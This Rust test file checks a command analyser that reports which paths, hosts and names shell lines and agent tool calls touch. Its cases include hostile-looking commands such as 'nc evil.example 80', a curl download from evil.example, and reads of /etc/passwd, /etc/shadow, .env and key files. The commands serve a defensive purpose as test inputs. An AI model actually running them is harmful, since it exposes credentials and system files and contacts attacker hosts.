//! What calls touch: tool inputs, shell lines, operations.

use super::*;

#[test]
fn shell_lines_name_their_paths_and_hosts() {
    let cases: [(&str, &[&str], &[&str], bool); 16] = [
        (
            "cd /etc && cat passwd",
            &["/etc", "/etc/passwd"],
            &[],
            false,
        ),
        ("cd sub; cat ../x/y", &["sub/../x/y"], &[], false),
        ("cd; cat x", &[], &[], true),
        ("sort -o/etc/x in.txt", &["/etc/x"], &[], false),
        ("ls ..", &[".."], &[], false),
        ("nc evil.example 80", &[], &["evil.example"], false),
        (
            "scp x bob@host.example:y",
            &["x", "bob@host.example:y"],
            &["host.example"],
            false,
        ),
        ("cat secret.key", &["secret.key"], &[], false),
        ("cp a.json /etc/x", &["a.json", "/etc/x"], &[], false),
        ("sudo rm -rf build", &["build"], &[], false),
        (
            "curl -o out.bin https://evil.example/x",
            &["out.bin"],
            &["https://evil.example/x"],
            false,
        ),
        ("wget example.com", &[], &["http://example.com"], false),
        ("echo hi > notes.md", &["notes.md"], &[], false),
        ("git status 2>&1 >/dev/null", &[], &[], false),
        ("cat *.pem", &[], &[], true),
        ("cat $(echo x)", &[], &[], true),
    ];
    for (line, paths, targets, unreadable) in cases {
        let t = touches_of_command(line);
        assert_eq!(t.paths, paths.to_vec(), "{line}");
        assert_eq!(t.targets, targets.to_vec(), "{line}");
        assert_eq!(t.unreadable.is_some(), unreadable, "{line}: {t:?}");
    }
}

#[test]
fn glued_options_are_paths_and_other_words_are_names() {
    let cases: [(&str, &[&str], &[&str]); 7] = [
        ("git -C/etc status", &["/etc"], &["status"]),
        ("grep -f/etc/shadow x", &["/etc/shadow"], &["x"]),
        (
            "gcc -I../include -o out main.c",
            &["../include", "out"],
            &["out", "main.c"],
        ),
        ("base64 server.key", &[], &["server.key"]),
        ("cd design && xxd .env", &[], &["design", "design/.env"]),
        ("ls -la", &[], &[]),
        ("rm -rf build", &["build"], &[]),
    ];
    for (line, paths, names) in cases {
        let t = touches_of_command(line);
        assert_eq!(t.paths, paths.to_vec(), "{line}");
        assert_eq!(t.names, names.to_vec(), "{line}");
    }
}

#[test]
fn claude_code_tools_name_their_paths() {
    let t = touches_of_tool_input(
        "write_file",
        &serde_json::json!({"file_path": "/p/a.key", "content": "abc"}),
    );
    assert_eq!(t.paths, ["/p/a.key"]);
    assert_eq!(t.file_size, Some(3));
    let t = touches_of_tool_input(
        "run_shell_command",
        &serde_json::json!({"command": "cat /etc/passwd"}),
    );
    assert_eq!(t.paths, ["/etc/passwd"]);
}
